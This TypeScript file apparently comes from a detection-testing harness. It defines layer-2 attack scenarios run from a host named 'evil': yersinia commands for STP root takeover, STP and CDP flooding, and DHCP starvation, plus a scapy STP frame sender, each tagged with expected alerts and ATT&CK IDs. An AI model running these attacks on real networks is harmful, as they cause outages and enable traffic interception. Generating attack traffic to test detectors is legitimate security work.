/** What switches tell each other, told by somebody else: by yersinia, beside a switch that speaks each second. */
import type { Site } from '../site.ts';
import type { Attack, Plan } from './attack.ts';

/** The gateway's port is that of a switch which has found its root. */
function lastingSwitch(site: Site, seconds: number): Plan['jobs'][number] {
  const script = `import time
from scapy.all import *
link = conf.L2socket(iface='eth0')
root = '02:00:5e:20:00:01'
hello = STP(rootid=24576, rootmac=root, pathcost=4, bridgeid=32768, bridgemac='${site.mac('gateway')}', portid=0x8001)
frame = bytes(Dot3(dst='01:80:c2:00:00:00', src='${site.mac('gateway')}') / LLC() / hello)
for i in range(${seconds}):
    link.outs.send(frame)
    time.sleep(1)
`;
  return { host: 'gateway', argv: ['/usr/bin/python3', '-c', script] };
}

/** For `seconds`, which is all the rate that it knows. */
function yersinia(name: string, alerts: readonly string[], technique: string, command: string, seconds: number): Attack {
  return {
    class: name,
    alerts,
    technique,
    tool: 'yersinia',
    needs: ['yersinia', 'script', 'scapy'],
    speeds: { fast: [1, 1] },
    plan: (site) => ({
      jobs: [
        lastingSwitch(site, 8 + seconds),
        // It stops at a key or at the end of its input, and wants a terminal.
        {
          host: 'evil',
          argv: [
            'bash',
            '-c',
            `sleep 7; sleep ${seconds} | timeout ${seconds} script -qfc "yersinia ${command} -interface eth0" /dev/null`,
          ],
        },
      ],
      attackers: [],
      victims: [],
      seconds: seconds + 10,
    }),
  };
}

export const switchAttacks: readonly Attack[] = [
  yersinia('stp.root', ['stp.root'], 'T1557', 'stp -attack 4', 8),
  yersinia('stp.flood', ['flood.stp', 'flood.mac'], 'T1498.001', 'stp -attack 2', 1),
  yersinia('stp.flood.changes', ['flood.stp', 'flood.mac'], 'T1498.001', 'stp -attack 3', 1),
  yersinia('cdp.flood', ['flood.mac'], 'T1498.001', 'cdp -attack 1', 1),
  yersinia('dhcp.starvation', ['dhcp.starvation'], 'T1498.001', 'dhcp -attack 1', 1),
];
